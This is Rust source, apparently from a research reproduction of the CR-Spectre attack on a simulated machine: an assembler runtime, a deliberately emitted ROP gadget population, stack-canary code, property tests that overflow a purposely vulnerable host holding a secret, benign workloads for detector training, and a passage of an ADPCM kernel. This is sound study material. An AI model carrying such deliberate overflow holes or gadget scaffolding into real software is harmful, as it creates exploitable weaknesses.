    asm.alu(AluOp::Add, Reg::R5, Reg::R1, Reg::R4);
    asm.ld(Width::B, Reg::R5, Reg::R5, 0);
    asm.br(BranchCond::Eq, Reg::R5, Reg::R0, "__strlen_done");
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 1);
    asm.jmp("__strlen_loop");
    asm.label("__strlen_done");
    asm.mov(Reg::R0, Reg::R4);
    asm.ret();
}

/// Syscall wrappers. Each sets `r0` and traps; arguments pass through in
/// `r1..=r3`. `sys_exec; ret` is the sequence the ROP chain returns into —
/// the analogue of returning into libc's `execve`.
fn syscall_wrappers(asm: &mut Asm) {
    asm.label("sys_exit");
    asm.ldi(Reg::R0, sys::EXIT as i32);
    asm.syscall();
    asm.ret(); // reached only when an exec frame returned

    asm.label("sys_write");
    asm.ldi(Reg::R0, sys::WRITE as i32);
    asm.syscall();
    asm.ret();

    asm.label("sys_exec");
    asm.ldi(Reg::R0, sys::EXEC as i32);
    asm.syscall();
    asm.ret();

    asm.label("sys_getrand");
    asm.ldi(Reg::R0, sys::GETRAND as i32);
    asm.syscall();
    asm.ret();
}

/// Epilogue-style instruction sequences. In a GCC binary these arise
/// naturally from callee-saved register restores; here they are emitted
/// explicitly so every linked image carries a usable gadget population.
fn gadget_zoo(asm: &mut Asm) {
    asm.label("__rt_epilogues");
    // pop rN; ret — the register-setting workhorses.
    for r in [Reg::R1, Reg::R2, Reg::R3, Reg::R4, Reg::R5, Reg::R0] {
        asm.pop(r);
        asm.ret();
    }
    // pop r1; pop r2; ret — double restore.
    asm.pop(Reg::R1);
    asm.pop(Reg::R2);
    asm.ret();
    // mov r1, r0; ret and friends.
    asm.mov(Reg::R1, Reg::R0);
    asm.ret();
    asm.mov(Reg::R0, Reg::R1);
    asm.ret();
    // add sp, 16; ret — stack lifters.
    asm.alui(AluOp::Add, Reg::SP, Reg::SP, 16);
    asm.ret();
    asm.alui(AluOp::Add, Reg::SP, Reg::SP, 32);
    asm.ret();
    // arithmetic gadgets.
    asm.alu(AluOp::Add, Reg::R1, Reg::R1, Reg::R2);
    asm.ret();
    asm.alu(AluOp::Xor, Reg::R1, Reg::R1, Reg::R1);
    asm.ret();
    // store gadget: [r1] = r2; ret.
    asm.st(Width::D, Reg::R1, Reg::R2, 0);
    asm.ret();
    // load gadget: r1 = [r1]; ret.
    asm.ld(Width::D, Reg::R1, Reg::R1, 0);
    asm.ret();
    // bare syscall; ret (number must already be in r0).
    asm.label("__rt_syscall_ret");
    asm.syscall();
    asm.ret();
}

/// Emits a function prologue: optional canary push, then `frame_size`
/// bytes of locals. The local buffer starts at `sp + 0`.
///
/// Stack layout (high → low): `[return address][canary?][locals]`, so an
/// overflow running off the end of the locals corrupts the canary before
/// the return address — exactly the property the mitigation relies on.
pub fn emit_prologue(asm: &mut Asm, frame_size: u32, canary: bool) {
    if canary {
        asm.ldi(Reg::SCRATCH, CANARY_ADDR as i32);
        asm.ld(Width::D, Reg::SCRATCH, Reg::SCRATCH, 0);
        asm.push(Reg::SCRATCH);
    }
    asm.alui(AluOp::Sub, Reg::SP, Reg::SP, frame_size as i32);
}

/// Emits the matching epilogue: frame release, optional canary check
/// (aborting via the `abort` syscall on mismatch — "stack smashing
/// detected"), then `RET`. Clobbers `r13`/`r14` when `canary` is set.
pub fn emit_epilogue(asm: &mut Asm, frame_size: u32, canary: bool) {
    asm.alui(AluOp::Add, Reg::SP, Reg::SP, frame_size as i32);
    if canary {
        let ok = format!("__canary_ok_{}", asm.here());
        asm.pop(Reg::R13);
        asm.ldi(Reg::SCRATCH, CANARY_ADDR as i32);
        asm.ld(Width::D, Reg::SCRATCH, Reg::SCRATCH, 0);
        asm.br(BranchCond::Eq, Reg::R13, Reg::SCRATCH, ok.clone());
        asm.ldi(Reg::R0, sys::ABORT as i32);
        asm.syscall();
        asm.label(ok);
    }
    asm.ret();
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;
    use cr_spectre_sim::error::{ExitReason, Fault};
    use cr_spectre_sim::mem::Perms;

    fn machine_for(asm: &Asm) -> (Machine, cr_spectre_sim::image::LoadedImage) {
        let image = asm.build("t").unwrap();
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).unwrap();
        (m, li)
    }

    #[test]
    fn memcpy_copies() {
        let mut a = Asm::new();
        a.label("main");
        a.call("memcpy");
        a.halt();
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        let src = m.alloc(4096, Perms::RW);
        let dst = m.alloc(4096, Perms::RW);
        m.mem_mut().poke(src, b"hello world");
        m.start(li.entry);
        m.set_reg(Reg::R1, dst);
        m.set_reg(Reg::R2, src);
        m.set_reg(Reg::R3, 11);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.mem().peek(dst, 11), b"hello world");
    }

    #[test]
    fn memset_fills() {
        let mut a = Asm::new();
        a.label("main");
        a.call("memset");
        a.halt();
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        let dst = m.alloc(4096, Perms::RW);
        m.start(li.entry);
        m.set_reg(Reg::R1, dst);
        m.set_reg(Reg::R2, 0xab);
        m.set_reg(Reg::R3, 8);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.mem().peek(dst, 9), &[0xab; 8][..].iter().chain(&[0u8]).copied().collect::<Vec<_>>()[..]);
    }

    #[test]
    fn strcpy_stops_at_nul() {
        let mut a = Asm::new();
        a.label("main");
        a.call("strcpy");
        a.halt();
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        let src = m.alloc(4096, Perms::RW);
        let dst = m.alloc(4096, Perms::RW);
        m.mem_mut().poke(src, b"abc\0XYZ");
        m.mem_mut().poke(dst, &[0xff; 8]);
        m.start(li.entry);
        m.set_reg(Reg::R1, dst);
        m.set_reg(Reg::R2, src);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.mem().peek(dst, 5), b"abc\0\xff");
    }

    #[test]
    fn strlen_counts() {
        let mut a = Asm::new();
        a.label("main");
        a.call("strlen");
        a.halt();
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        let src = m.alloc(4096, Perms::RW);
        m.mem_mut().poke(src, b"four\0");
        m.start(li.entry);
        m.set_reg(Reg::R1, src);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.reg(Reg::R0), 4);
    }

    #[test]
    fn sys_write_wrapper() {
        let mut a = Asm::new();
        a.label("main");
        a.la(Reg::R1, "msg");
        a.ldi(Reg::R2, 5);
        a.call("sys_write");
        a.halt();
        add_runtime(&mut a);
        a.data_label("msg");
        a.asciz("hello");
        let (mut m, li) = machine_for(&a);
        m.start(li.entry);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.stdout(), b"hello");
    }

    #[test]
    fn canary_frame_round_trip() {
        // A well-behaved function with canary protection returns cleanly.
        let mut a = Asm::new();
        a.label("main");
        a.call("f");
        a.halt();
        a.label("f");
        emit_prologue(&mut a, 64, true);
        a.ldi(Reg::R1, 7);
        a.st(Width::D, Reg::SP, Reg::R1, 0); // touch the frame
        emit_epilogue(&mut a, 64, true);
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        m.start(li.entry);
        assert!(m.run().exit.is_clean());
    }

    #[test]
    fn canary_detects_overflow() {
        // The function deliberately writes past its 16-byte frame, hitting
        // the canary slot; the epilogue must abort.
        let mut a = Asm::new();
        a.label("main");
        a.call("f");
        a.halt();
        a.label("f");
        emit_prologue(&mut a, 16, true);
        a.ldi(Reg::R1, 0x41414141);
        a.st(Width::D, Reg::SP, Reg::R1, 16); // overwrites the canary slot
        emit_epilogue(&mut a, 16, true);
        add_runtime(&mut a);
        let (mut m, li) = machine_for(&a);
        m.start(li.entry);
        assert_eq!(m.run().exit, ExitReason::Fault(Fault::Abort));
    }

    #[test]
    fn runtime_contains_gadget_bytes() {
        let mut a = Asm::new();
        a.label("main");
        a.halt();
        add_runtime(&mut a);
        let image = a.build("t").unwrap();
        let text = &image.segments[0].bytes;
        // Count RET opcodes in the text segment: the zoo guarantees many.
        let rets = text
            .chunks(8)
            .filter(|c| cr_spectre_sim::isa::Instr::decode(c) == Ok(cr_spectre_sim::isa::Instr::Ret))
            .count();
        assert!(rets >= 15, "expected a rich gadget population, got {rets} rets");
    }
}

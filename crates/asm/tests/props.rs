//! Property-based tests of the assembler: label resolution, layout and
//! the parser/builder equivalence.

use proptest::prelude::*;

use cr_spectre_asm::builder::Asm;
use cr_spectre_asm::parser::assemble;
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::isa::{AluOp, Reg, INSTR_BYTES};
use cr_spectre_sim::mem::PAGE_SIZE;

proptest! {
    /// Any number of instructions before a label still resolves the
    /// branch to the exact instruction.
    #[test]
    fn labels_resolve_regardless_of_padding(pad in 0usize..64) {
        let mut asm = Asm::new();
        asm.label("main");
        asm.jmp("target");
        for _ in 0..pad {
            asm.ldi(Reg::R9, -1); // skipped
        }
        asm.label("target");
        asm.ldi(Reg::R1, 7);
        asm.halt();
        let image = asm.build("t").unwrap();
        prop_assert_eq!(
            image.symbol("target").unwrap(),
            (pad as u64 + 1) * INSTR_BYTES as u64
        );
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        machine.start(loaded.entry);
        prop_assert!(machine.run().exit.is_clean());
        prop_assert_eq!(machine.reg(Reg::R1), 7);
        prop_assert_eq!(machine.reg(Reg::R9), 0, "padding must be jumped over");
    }

    /// Data labels are laid out sequentially, with exact sizes, for any
    /// mix of directives.
    #[test]
    fn data_layout_is_exact(sizes in proptest::collection::vec(1u64..64, 1..10)) {
        let mut asm = Asm::new();
        asm.label("main");
        asm.halt();
        let mut expected = Vec::new();
        let mut offset = 0u64;
        for (i, &size) in sizes.iter().enumerate() {
            asm.data_label(format!("blk{i}"));
            asm.space(size);
            expected.push(offset);
            offset += size;
        }
        let image = asm.build("t").unwrap();
        let base = image.symbol("blk0").unwrap();
        prop_assert_eq!(base % PAGE_SIZE, 0, "data starts page-aligned");
        for (i, &off) in expected.iter().enumerate() {
            prop_assert_eq!(image.symbol(&format!("blk{i}")).unwrap(), base + off);
        }
    }

    /// The loader relocates `la` under any ASLR seed: the loaded pointer
    /// always matches the loaded symbol.
    #[test]
    fn la_survives_aslr(seed in any::<u64>()) {
        let mut asm = Asm::new();
        asm.label("main");
        asm.la(Reg::R1, "value");
        asm.halt();
        asm.data_label("value");
        asm.dq(0x55);
        let image = asm.build("t").unwrap();
        let mut cfg = MachineConfig::default();
        cfg.protect.aslr_seed = Some(seed);
        cfg.seed = seed;
        let mut machine = Machine::new(cfg);
        let loaded = machine.load(&image).unwrap();
        machine.start(loaded.entry);
        prop_assert!(machine.run().exit.is_clean());
        prop_assert_eq!(machine.reg(Reg::R1), loaded.addr("value"));
    }

    /// Immediate arithmetic written in text assembly computes exactly
    /// what Rust computes, for any operands.
    #[test]
    fn text_assembly_arithmetic(a in any::<i32>(), b in -1000i32..1000) {
        let src = format!(
            "main:\n  ldi r1, {a}\n  addi r2, r1, {b}\n  subi r3, r1, {b}\n  halt\n"
        );
        let image = assemble("t", &src).unwrap();
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        machine.start(loaded.entry);
        prop_assert!(machine.run().exit.is_clean());
        let a64 = a as i64 as u64;
        prop_assert_eq!(machine.reg(Reg::R2), a64.wrapping_add(b as i64 as u64));
        prop_assert_eq!(machine.reg(Reg::R3), a64.wrapping_sub(b as i64 as u64));
    }

    /// Builder and parser produce byte-identical text segments for the
    /// same ALU program.
    #[test]
    fn parser_matches_builder(ops in proptest::collection::vec((0u8..4, 1i32..100), 1..16)) {
        let mnemonics = ["add", "sub", "and", "or"];
        let alu = [AluOp::Add, AluOp::Sub, AluOp::And, AluOp::Or];
        let mut src = String::from("main:\n");
        let mut asm = Asm::new();
        asm.label("main");
        for &(op, imm) in &ops {
            src.push_str(&format!("  {}i r1, r2, {}\n", mnemonics[op as usize], imm));
            asm.alui(alu[op as usize], Reg::R1, Reg::R2, imm);
        }
        src.push_str("  halt\n");
        asm.halt();
        let from_text = assemble("t", &src).unwrap();
        let from_builder = asm.build("t").unwrap();
        prop_assert_eq!(&from_text.segments[0].bytes, &from_builder.segments[0].bytes);
    }
}

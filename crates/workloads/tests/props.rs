//! Property-based tests of the workload/host layer.

use proptest::prelude::*;

use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::error::ExitReason;
use cr_spectre_workloads::host::{vulnerable_host, HostOptions, SECRET};
use cr_spectre_workloads::mibench::Mibench;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Any argument that fits the buffer leaves the host unharmed and
    /// the workload result correct.
    #[test]
    fn in_bounds_arguments_are_harmless(arg in proptest::collection::vec(any::<u8>(), 0..100)) {
        let host = vulnerable_host(Mibench::Crc32, HostOptions::default());
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&host.image).unwrap();
        machine.start_with_arg(loaded.entry, &arg);
        let out = machine.run();
        prop_assert!(out.exit.is_clean(), "{:?}", out.exit);
        prop_assert_eq!(
            machine.reg(cr_spectre_sim::isa::Reg::R11),
            Mibench::Crc32.expected_checksum()
        );
    }

    /// Any overflow past the return slot with garbage hijacks control to
    /// a junk address, which never executes cleanly — and with a canary
    /// it is always caught as Abort instead.
    #[test]
    fn garbage_overflow_crashes_plain_and_aborts_canary(extra in 1usize..64, fill in 1u8..255) {
        for canary in [false, true] {
            let host = vulnerable_host(
                Mibench::Bitcount50M,
                HostOptions { canary, ..HostOptions::default() },
            );
            let mut machine = Machine::new(MachineConfig::default());
            let loaded = machine.load(&host.image).unwrap();
            let payload = vec![fill; host.offset_to_ret() + extra.max(8)];
            machine.start_with_arg(loaded.entry, &payload);
            let out = machine.run();
            prop_assert!(!out.exit.is_clean(), "overflow must not be clean");
            if canary {
                prop_assert_eq!(
                    out.exit,
                    ExitReason::Fault(cr_spectre_sim::error::Fault::Abort),
                    "the canary must catch it first"
                );
            }
        }
    }

    /// The secret is present and identical in every host image.
    #[test]
    fn secret_is_invariant_across_hosts(idx in 0usize..14) {
        let host = vulnerable_host(Mibench::ALL[idx], HostOptions::default());
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&host.image).unwrap();
        let addr = loaded.addr("secret");
        let mut buf = vec![0u8; SECRET.len()];
        machine.mem().read(addr, &mut buf).unwrap();
        prop_assert_eq!(&buf[..], SECRET);
    }
}

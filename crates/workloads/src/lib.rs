//! # cr-spectre-workloads
//!
//! Guest applications for the CR-Spectre reproduction: MiBench-like hosts,
//! synthetic benign background applications, and the paper's Algorithm-1
//! vulnerable host wrapper.
//!
//! * [`mibench::Mibench`] — eleven workloads modelled on the MiBench suite
//!   (basicmath, bitcount 50M/100M, SHA 1/2, qsort, crc32, stringsearch,
//!   dijkstra, fft), each verified against a Rust reference model of its
//!   checksum;
//! * [`benign::BenignApp`] — browser/editor/idle mixes for realistic HID
//!   training sets;
//! * [`host`] — [`host::standalone_image`] and [`host::vulnerable_host`]
//!   (the buffer-overflow entry point + in-image secret).
//!
//! # Example
//!
//! ```
//! use cr_spectre_workloads::host::{vulnerable_host, HostOptions, SECRET_SYMBOL};
//! use cr_spectre_workloads::mibench::Mibench;
//! use cr_spectre_sim::{config::MachineConfig, cpu::Machine};
//!
//! let host = vulnerable_host(Mibench::Sha1, HostOptions::default());
//! let mut machine = Machine::new(MachineConfig::default());
//! let loaded = machine.load(&host.image).expect("loads");
//! assert!(loaded.try_addr(SECRET_SYMBOL).is_some());
//! machine.start_with_arg(loaded.entry, b"benign argv");
//! assert!(machine.run().exit.is_clean());
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod benign;
pub mod host;
pub mod mibench;

pub use benign::BenignApp;
pub use host::{vulnerable_host, HostOptions, VulnerableHost, SECRET, SECRET_SYMBOL};
pub use mibench::Mibench;

//! Synthetic benign applications.
//!
//! The paper trains its HID on "applications like browsers, text editors,
//! etc. ... to emulate a practical situation". These programs provide that
//! benign diversity: each has a distinct microarchitectural mix so the
//! detector's benign class is not a single point.

use cr_spectre_asm::builder::Asm;
use cr_spectre_asm::runtime::add_runtime;
use cr_spectre_sim::image::Image;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

use crate::mibench::emit_xorshift;

/// A benign background application.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BenignApp {
    /// Browser-like: copies, hashing and a branchy state machine.
    Browser,
    /// Editor-like: buffer shifting and line scanning.
    Editor,
    /// Idle-like: light loop with sporadic memory touches.
    Idle,
}

impl BenignApp {
    /// All benign applications.
    pub const ALL: [BenignApp; 3] = [BenignApp::Browser, BenignApp::Editor, BenignApp::Idle];

    /// Stable short name.
    pub fn name(self) -> &'static str {
        match self {
            BenignApp::Browser => "browser",
            BenignApp::Editor => "editor",
            BenignApp::Idle => "idle",
        }
    }

    /// Emits the routine and returns its entry label.
    pub fn emit(self, asm: &mut Asm) -> &'static str {
        match self {
            BenignApp::Browser => emit_browser(asm, 120),
            BenignApp::Editor => emit_editor(asm, 160),
            BenignApp::Idle => emit_idle(asm, 4_000),
        }
    }

    /// Builds a standalone runnable image of this application.
    pub fn image(self) -> Image {
        let mut asm = Asm::new();
        let entry = self.emit(&mut asm);
        asm.label("main");
        asm.call(entry);
        asm.halt();
        asm.entry("main");
        add_runtime(&mut asm);
        asm.build(self.name()).expect("benign app assembles")
    }
}

impl std::fmt::Display for BenignApp {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Browser-ish mix: per "event", dispatch on PRNG state to a copy burst,
/// a hash burst, or a scan burst over a 4 KiB working set.
fn emit_browser(asm: &mut Asm, events: i32) -> &'static str {
    asm.data_label("bw_heap");
    asm.space(4096);
    asm.label("bw_main");
    asm.ldi(Reg::R10, 0x0b0b_0b0b); // PRNG
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0); // event
    asm.ldi(Reg::R2, events);
    asm.label("bw_loop");
    emit_xorshift(asm, Reg::R10, Reg::R9);
    asm.alui(AluOp::And, Reg::R3, Reg::R10, 3);
    asm.ldi(Reg::R9, 0);
    asm.br(BranchCond::Eq, Reg::R3, Reg::R9, "bw_copy");
    asm.ldi(Reg::R9, 1);
    asm.br(BranchCond::Eq, Reg::R3, Reg::R9, "bw_hash");
    asm.jmp("bw_scan");
    // Copy 128 bytes between two PRNG-chosen offsets.
    asm.label("bw_copy");
    asm.la(Reg::R4, "bw_heap");
    asm.alui(AluOp::And, Reg::R5, Reg::R10, 0x7ff);
    asm.alu(AluOp::Add, Reg::R5, Reg::R4, Reg::R5); // src
    asm.alui(AluOp::Shr, Reg::R6, Reg::R10, 17);
    asm.alui(AluOp::And, Reg::R6, Reg::R6, 0x7ff);
    asm.alu(AluOp::Add, Reg::R6, Reg::R4, Reg::R6); // dst
    asm.ldi(Reg::R7, 0);
    asm.label("bw_copy_loop");
    asm.ld(Width::B, Reg::R8, Reg::R5, 0);
    asm.st(Width::B, Reg::R6, Reg::R8, 0);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.alui(AluOp::Add, Reg::R6, Reg::R6, 1);
    asm.alui(AluOp::Add, Reg::R7, Reg::R7, 1);
    asm.ldi(Reg::R8, 128);
    asm.br(BranchCond::Ltu, Reg::R7, Reg::R8, "bw_copy_loop");
    asm.jmp("bw_next");
    // FNV-ish hash burst.
    asm.label("bw_hash");
    asm.mov(Reg::R4, Reg::R10);
    asm.ldi(Reg::R5, 0);
    asm.label("bw_hash_loop");
    asm.alui(AluOp::Mul, Reg::R4, Reg::R4, 0x0100_0193);
    asm.alui(AluOp::Xor, Reg::R4, Reg::R4, 0x5bd1);
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R8, 64);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R8, "bw_hash_loop");
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R4);
    asm.jmp("bw_next");
    // Scan burst: strided reads.
    asm.label("bw_scan");
    asm.la(Reg::R4, "bw_heap");
    asm.ldi(Reg::R5, 0);
    asm.label("bw_scan_loop");
    asm.ld(Width::D, Reg::R8, Reg::R4, 0);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R8);
    asm.alui(AluOp::Add, Reg::R4, Reg::R4, 72); // stride
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R8, 48);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R8, "bw_scan_loop");
    asm.label("bw_next");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "bw_loop");
    asm.ret();
    "bw_main"
}

/// Editor-ish mix: shift a gap buffer by one slot per keystroke and
/// rescan the current "line".
fn emit_editor(asm: &mut Asm, keystrokes: i32) -> &'static str {
    asm.data_label("ed_buf");
    asm.space(2048);
    asm.label("ed_main");
    asm.ldi(Reg::R10, 0xed17); // PRNG
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0);
    asm.ldi(Reg::R2, keystrokes);
    asm.label("ed_loop");
    emit_xorshift(asm, Reg::R10, Reg::R9);
    // Insert: shift 256 bytes right by one from a PRNG-chosen offset
    // (backwards copy, as a gap-buffer insertion would).
    asm.la(Reg::R4, "ed_buf");
    asm.alui(AluOp::And, Reg::R5, Reg::R10, 0x3ff);
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R5); // region start
    asm.ldi(Reg::R5, 256); // k counts down
    asm.label("ed_shift");
    asm.alu(AluOp::Add, Reg::R6, Reg::R4, Reg::R5);
    asm.ld(Width::B, Reg::R7, Reg::R6, -1);
    asm.st(Width::B, Reg::R6, Reg::R7, 0);
    asm.alui(AluOp::Sub, Reg::R5, Reg::R5, 1);
    asm.br(BranchCond::Ne, Reg::R5, Reg::R0, "ed_shift");
    // Rescan the "line": 80 byte reads with a compare.
    asm.ldi(Reg::R5, 0);
    asm.label("ed_scan");
    asm.alu(AluOp::Add, Reg::R6, Reg::R4, Reg::R5);
    asm.ld(Width::B, Reg::R7, Reg::R6, 0);
    asm.ldi(Reg::R8, b'\n' as i32);
    asm.br(BranchCond::Eq, Reg::R7, Reg::R8, "ed_scan_hit");
    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 1);
    asm.label("ed_scan_hit");
    asm.alui(AluOp::Add, Reg::R5, Reg::R5, 1);
    asm.ldi(Reg::R8, 80);
    asm.br(BranchCond::Ltu, Reg::R5, Reg::R8, "ed_scan");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "ed_loop");
    asm.ret();
    "ed_main"
}

/// Idle-ish: mostly ALU spin with a cache touch every 64 iterations.
fn emit_idle(asm: &mut Asm, iters: i32) -> &'static str {
    asm.data_label("id_buf");
    asm.space(512);
    asm.label("id_main");
    asm.ldi(Reg::R1, 0);
    asm.ldi(Reg::R2, iters);
    asm.ldi(Reg::R11, 0);
    asm.label("id_loop");
    asm.alui(AluOp::Add, Reg::R11, Reg::R11, 3);
    asm.alui(AluOp::And, Reg::R3, Reg::R1, 63);
    asm.br(BranchCond::Ne, Reg::R3, Reg::R0, "id_skip");
    asm.la(Reg::R4, "id_buf");
    asm.alui(AluOp::And, Reg::R5, Reg::R1, 0x1ff);
    asm.alu(AluOp::Add, Reg::R4, Reg::R4, Reg::R5);
    asm.ld(Width::B, Reg::R6, Reg::R4, 0);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R6);
    asm.label("id_skip");
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R2, "id_loop");
    asm.ret();
    "id_main"
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;

    #[test]
    fn all_benign_apps_run_cleanly() {
        for app in BenignApp::ALL {
            let image = app.image();
            let mut m = Machine::new(MachineConfig::default());
            let li = m.load(&image).expect("loads");
            m.start(li.entry);
            let out = m.run();
            assert!(out.exit.is_clean(), "{app}: {:?}", out.exit);
            assert!(out.instructions > 1_000, "{app} does real work");
        }
    }

    #[test]
    fn benign_apps_have_distinct_profiles() {
        use cr_spectre_sim::pmu::HpcEvent;
        let mut miss_rates = Vec::new();
        for app in BenignApp::ALL {
            let image = app.image();
            let mut m = Machine::new(MachineConfig::default());
            let li = m.load(&image).expect("loads");
            m.start(li.entry);
            m.run();
            let s = m.pmu().snapshot();
            miss_rates.push(
                s.count(HpcEvent::TotalCacheMiss) as f64
                    / s.count(HpcEvent::Instructions).max(1) as f64,
            );
        }
        // The three mixes should not all look identical to the PMU.
        let spread = miss_rates
            .iter()
            .fold(f64::NEG_INFINITY, |a, &b| a.max(b))
            - miss_rates.iter().fold(f64::INFINITY, |a, &b| a.min(b));
        assert!(spread > 0.0, "profiles collapsed: {miss_rates:?}");
    }
}

//! `adpcm`: IMA ADPCM encoding of a synthetic waveform — MiBench's
//! telecomm kernel: table lookups, clamps and data-dependent branches.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// The IMA ADPCM step-size table.
const STEP_TABLE: [i32; 89] = [
    7, 8, 9, 10, 11, 12, 13, 14, 16, 17, 19, 21, 23, 25, 28, 31, 34, 37, 41, 45, 50, 55, 60, 66,
    73, 80, 88, 97, 107, 118, 130, 143, 157, 173, 190, 209, 230, 253, 279, 307, 337, 371, 408,
    449, 494, 544, 598, 658, 724, 796, 876, 963, 1060, 1166, 1282, 1411, 1552, 1707, 1878, 2066,
    2272, 2499, 2749, 3024, 3327, 3660, 4026, 4428, 4871, 5358, 5894, 6484, 7132, 7845, 8630,
    9493, 10442, 11487, 12635, 13899, 15289, 16818, 18500, 20350, 22385, 24623, 27086, 29794,
    32767,
];

/// The index-adjustment table (by 3-bit magnitude code).
const INDEX_TABLE: [i32; 8] = [-1, -1, -1, -1, 2, 4, 6, 8];

/// Synthetic input samples shared by guest and model (sawtooth + PRNG
/// jitter, 16-bit signed range).
pub(crate) fn samples(n: i32) -> Vec<i64> {
    let mut x: u32 = 0x0ada_9c5e;
    (0..n)
        .map(|i| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            let saw = i64::from((i * 211) % 4096) - 2048;
            let jitter = i64::from(x >> 24) - 128;
            (saw * 8 + jitter).clamp(-32768, 32767)
        })
        .collect()
}

/// Emits the routine; entry label `ad_main`, checksum (sum of 4-bit
/// codes + final predictor) in `r11`.
///
/// Register map: `r1` sample idx, `r2` n, `r3` predictor, `r4` step
/// index, `r5..r10`, `r13` scratch.
pub fn emit(asm: &mut Asm, n: i32) -> &'static str {
    asm.data_label("ad_steps");
    for s in STEP_TABLE {
        asm.dq(s as u64);
    }
    asm.data_label("ad_index");
    for s in INDEX_TABLE {
        asm.dq(s as i64 as u64);
    }
    asm.data_label("ad_input");
    for s in samples(n) {
        asm.dq(s as u64);
    }

    asm.label("ad_main");
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0);
    asm.ldi(Reg::R2, n);
    asm.ldi(Reg::R3, 0); // predictor
    asm.ldi(Reg::R4, 0); // step index
    asm.label("ad_loop");
    // r5 = input[i]
    asm.la(Reg::R9, "ad_input");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R1, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R5, Reg::R9, 0);
    // r6 = diff = sample - predictor; r7 = sign bit (8 if negative)
    asm.alu(AluOp::Sub, Reg::R6, Reg::R5, Reg::R3);
    asm.ldi(Reg::R7, 0);
    asm.br(BranchCond::Ge, Reg::R6, Reg::R0, "ad_positive");
    asm.ldi(Reg::R7, 8);
    asm.alu(AluOp::Sub, Reg::R6, Reg::R0, Reg::R6); // |diff|
    asm.label("ad_positive");
    // r8 = step = steps[index]
    asm.la(Reg::R9, "ad_steps");
    asm.alui(AluOp::Shl, Reg::R10, Reg::R4, 3);
    asm.alu(AluOp::Add, Reg::R9, Reg::R9, Reg::R10);
    asm.ld(Width::D, Reg::R8, Reg::R9, 0);
    // 3-bit magnitude code in r10: bit2 = diff >= step, then halve, etc.
    asm.ldi(Reg::R10, 0);
    asm.br(BranchCond::Lt, Reg::R6, Reg::R8, "ad_b2done");
    asm.alui(AluOp::Or, Reg::R10, Reg::R10, 4);
    asm.alu(AluOp::Sub, Reg::R6, Reg::R6, Reg::R8);
    asm.label("ad_b2done");
    asm.alui(AluOp::Sar, Reg::R8, Reg::R8, 1);
    asm.br(BranchCond::Lt, Reg::R6, Reg::R8, "ad_b1done");
    asm.alui(AluOp::Or, Reg::R10, Reg::R10, 2);
    asm.alu(AluOp::Sub, Reg::R6, Reg::R6, Reg::R8);
    asm.label("ad_b1done");
    asm.alui(AluOp::Sar, Reg::R8, Reg::R8, 1);
    asm.br(BranchCond::Lt, Reg::R6, Reg::R8, "ad_b0done");
    asm.alui(AluOp::Or, Reg::R10, Reg::R10, 1);
    asm.label("ad_b0done");
    // checksum += code | sign
    asm.alu(AluOp::Or, Reg::R13, Reg::R10, Reg::R7);
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R13);
    // predictor update: delta = (step_orig * code2 + step_orig/2) / 4 …
    // use the classic reconstruction: diffq = step>>3 + (code&4?step:0)
    // + (code&2?step>>1:0) + (code&1?step>>2:0), with the *original* step.
    asm.la(Reg::R9, "ad_steps");
